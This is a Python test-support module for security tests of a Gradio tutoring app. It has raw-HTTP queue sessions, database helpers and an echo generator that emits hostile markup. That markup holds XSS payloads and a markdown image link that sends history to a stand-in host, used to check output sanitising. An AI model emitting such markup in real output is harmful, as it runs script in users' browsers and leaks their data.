"""What the security tests share (no tests here): raw-HTTP sessions on the Gradio queue API, a
generator that echoes its prompt, and an app served with it.

Raw HTTP is how an attacker calls the app: log in for the cookie, `POST
/gradio_api/queue/join` with any `fn_index` and any data, read the result from the SSE stream
`/gradio_api/queue/data`. Checks on what comes back read the whole stream as text (`wire`),
so a canary anywhere in any event fails them, not only in the final output.

The echo generator returns its prompt as the reply, with hostile markup first: whatever
reaches the model is what could leak, and the markup is what a model could write.
"""

from __future__ import annotations

import json
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import func, select

import students_db as db
from prompts.request import GenerationRequest
from students_db import models
from tests.fixtures.app_server import AppServer, launch

HOSTILE_MARKUP = (
    "<script>alert('model')</script> <img src=x onerror=alert(1)> "
    "![pic](https://evil.example/collect?q=history) [click here](javascript:alert(1)) "
    "see https://evil.example/x and www.evil.example "
)


class EchoGenerator:
    """A generator whose reply is hostile markup followed by its whole prompt.

    Token counting and the prompt budget come from the tiny GPT-2 (its real tokenizer, a
    512-token window), so prompts are fitted exactly as for a real model. Every request is
    kept in `requests`, in order, for the tests to read what reached the model.
    """

    def __init__(self, inner: Any) -> None:
        self._inner = inner
        self._lock = threading.Lock()
        self._moving = threading.Event()
        self._moving.set()
        self.requests: list[GenerationRequest] = []

    @property
    def available(self) -> bool:
        return True

    @property
    def unavailable_reason(self) -> str | None:
        return None

    @property
    def max_prompt_tokens(self) -> int:
        return int(self._inner.max_prompt_tokens)

    def count_tokens(self, text: str) -> int:
        return int(self._inner.count_tokens(text))

    def stream(self, request: GenerationRequest) -> Iterator[str]:
        with self._lock:
            self.requests.append(request)
        self._moving.wait(timeout=60)
        text = HOSTILE_MARKUP + request.prompt
        for start in range(0, len(text), 48):  # chunks that split markup and words
            yield text[start : start + 48]

    def prompts_since(self, mark: int) -> list[GenerationRequest]:
        with self._lock:
            return list(self.requests[mark:])

    @contextmanager
    def held(self) -> Iterator[None]:
        """Stall every generation until the block ends (a model slower than the traffic)."""
        self._moving.clear()
        try:
            yield
        finally:
            self._moving.set()

    def mark(self) -> int:
        with self._lock:
            return len(self.requests)


@dataclass(frozen=True)
class EchoApp:
    server: AppServer
    generator: EchoGenerator


def echo_app_fixture(
    tmp_path_factory: pytest.TempPathFactory, tiny_gpt2_dir: Path
) -> Iterator[EchoApp]:
    """The app (launched by the shared app fixture's `launch`) with the echo generator."""
    from adapters.generator import Generator

    inner = Generator(str(tiny_gpt2_dir), None, device="cpu")
    assert inner.load(), inner.unavailable_reason
    echo = EchoGenerator(inner)
    try:
        for server in launch(tmp_path_factory.mktemp("security-app"), echo):
            yield EchoApp(server, echo)
    finally:
        inner.close()


echo_app = pytest.fixture(scope="module")(echo_app_fixture)


@dataclass(frozen=True)
class Call:
    """One queued call as the attacker saw it: every SSE event, and the final one."""

    events: tuple[dict[str, Any], ...]

    @property
    def completed(self) -> dict[str, Any]:
        return self.events[-1]

    @property
    def success(self) -> bool:
        return bool(self.completed.get("success"))

    @property
    def error(self) -> str:
        output = self.completed.get("output") or {}
        return str(output.get("error") or "")

    @property
    def output(self) -> list[Any]:
        return list((self.completed.get("output") or {}).get("data") or [])

    @property
    def wire(self) -> str:
        """Everything the server sent, as text (raw JSON escapes decoded)."""
        return json.dumps(self.events, ensure_ascii=False)


class RawSession:
    """A logged-in caller that speaks the queue protocol directly, like a script would."""

    def __init__(self, url: str, login: tuple[str, str] | None = None) -> None:
        self.url = url
        self.http = httpx.Client(base_url=url, timeout=60)
        self.session_hash = uuid.uuid4().hex[:11]
        if login is not None:
            reply = self.http.post("login", data={"username": login[0], "password": login[1]})
            assert reply.is_success, (login[0], reply.status_code, reply.text)

    def twin(self) -> RawSession:
        """Another connection with the same login cookie (a second tab, a retrying client)."""
        other = RawSession(self.url)
        other.http.cookies = self.http.cookies
        return other

    def close(self) -> None:
        self.http.close()

    def config(self) -> dict[str, Any]:
        reply = self.http.get("config")
        reply.raise_for_status()
        return dict(reply.json())

    def fn_index(self, api_name: str) -> int:
        for index, dependency in enumerate(self.config()["dependencies"]):
            if dependency.get("api_name") == api_name:
                return int(dependency.get("id", index))
        raise AssertionError(f"no endpoint {api_name}")

    def join(self, fn_index: int, data: list[Any], *, session_hash: str | None = None) -> str:
        """Queue a call; returns the session hash whose stream carries its result."""
        hash_ = session_hash or uuid.uuid4().hex[:11]
        reply = self.http.post(
            "gradio_api/queue/join",
            json={"data": data, "fn_index": fn_index, "session_hash": hash_},
        )
        assert reply.is_success, (reply.status_code, reply.text)
        return hash_

    def join_raw(self, body: bytes) -> httpx.Response:
        """Post a hand-written JSON body (a lone surrogate escape, a 10 MB string)."""
        return self.http.post(
            "gradio_api/queue/join", content=body, headers={"content-type": "application/json"}
        )

    def read(self, session_hash: str) -> Call:
        events: list[dict[str, Any]] = []
        with self.http.stream("GET", f"gradio_api/queue/data?session_hash={session_hash}") as sse:
            assert sse.status_code == 200, sse.status_code
            for line in sse.iter_lines():
                if not line.startswith("data:"):
                    continue
                event = json.loads(line[5:])
                events.append(event)
                if event.get("msg") == "process_completed":
                    return Call(tuple(events))
        raise AssertionError(f"the stream ended without a result: {events}")

    def call(self, fn_index: int, data: list[Any]) -> Call:
        return self.read(self.join(fn_index, data))

    def call_api(self, api_name: str, data: list[Any]) -> Call:
        return self.call(self.fn_index(api_name), data)


def new_students(server: AppServer, names: list[str]) -> list[tuple[tuple[str, str], int]]:
    """Students added to the main class for one test module: ((login, PIN), id) each, so
    modules do not share accounts (the login rate limit counts per account)."""
    from tutor import accounts

    with db.write_session(server.sessions) as session:  # teacher reads write the access log
        teacher = db.get_teacher_login(session=session, username=server.teacher[0])
        assert teacher is not None
        rooms = db.list_classrooms(session=session, teacher_id=teacher.id)
    room = next(r for r in rooms if r.id == server.classroom_id)
    created = accounts.add_students(
        sessions=server.sessions, teacher_id=teacher.id, classroom_id=room.id, names=names
    )
    with db.write_session(server.sessions) as session:
        pupils = db.list_students(session=session, teacher_id=teacher.id, classroom_id=room.id)
    ids = {p.login_name: p.id for p in pupils}
    return [((f"{room.join_code}/{login}", pin), ids[login]) for login, pin in created]


def row_counts(server: AppServer) -> dict[str, int]:
    """Rows in every table that a student's turn or a teacher's action writes."""
    tables = {
        "messages": models.Message,
        "attempts": models.Attempt,
        "classrooms": models.Classroom,
        "students": models.Student,
        "skill_states": models.SkillState,
        "chat_sessions": models.ChatSession,
    }
    with db.read_session(server.sessions) as session:
        return {
            name: int(session.scalar(select(func.count()).select_from(table)) or 0)
            for name, table in tables.items()
        }


def rows_of(server: AppServer, student_id: int) -> tuple[tuple[Any, ...], ...]:
    """A student's messages and attempts as plain tuples, to compare before and after."""
    with db.read_session(server.sessions) as session:
        messages = session.execute(
            select(models.Message.id, models.Message.role, models.Message.text)
            .where(models.Message.student_id == student_id)
            .order_by(models.Message.id)
        ).all()
        attempts = session.execute(
            select(models.Attempt.id, models.Attempt.answer, models.Attempt.correct)
            .where(models.Attempt.student_id == student_id)
            .order_by(models.Attempt.id)
        ).all()
    return tuple(tuple(r) for r in messages) + tuple(tuple(r) for r in attempts)


def active_exercise(server: AppServer, student_id: int) -> Any:
    with db.read_session(server.sessions) as session:
        active = db.get_active_exercise(session=session, student_id=student_id)
    assert active is not None
    return server.pack.exercise_by_id(active.exercise_id, active.seed)


def attempts_of(server: AppServer, student_id: int) -> list[Any]:
    with db.read_session(server.sessions) as session:
        return list(db.recent_attempts(session=session, student_id=student_id, limit=1000))


def messages_of(server: AppServer, student_id: int) -> list[Any]:
    with db.read_session(server.sessions) as session:
        return list(db.recent_messages(session=session, student_id=student_id, limit=10_000))


def last_reply(call: Call) -> str:
    """The text of the newest assistant message in a chat output (the reply just given)."""
    history = call.output[0] if call.output else []
    for message in reversed(history or []):
        if isinstance(message, dict) and message.get("role") == "assistant":
            content = message.get("content")
            if isinstance(content, list):
                return "".join(b.get("text", "") for b in content if isinstance(b, dict))
            return str(content)
    return ""
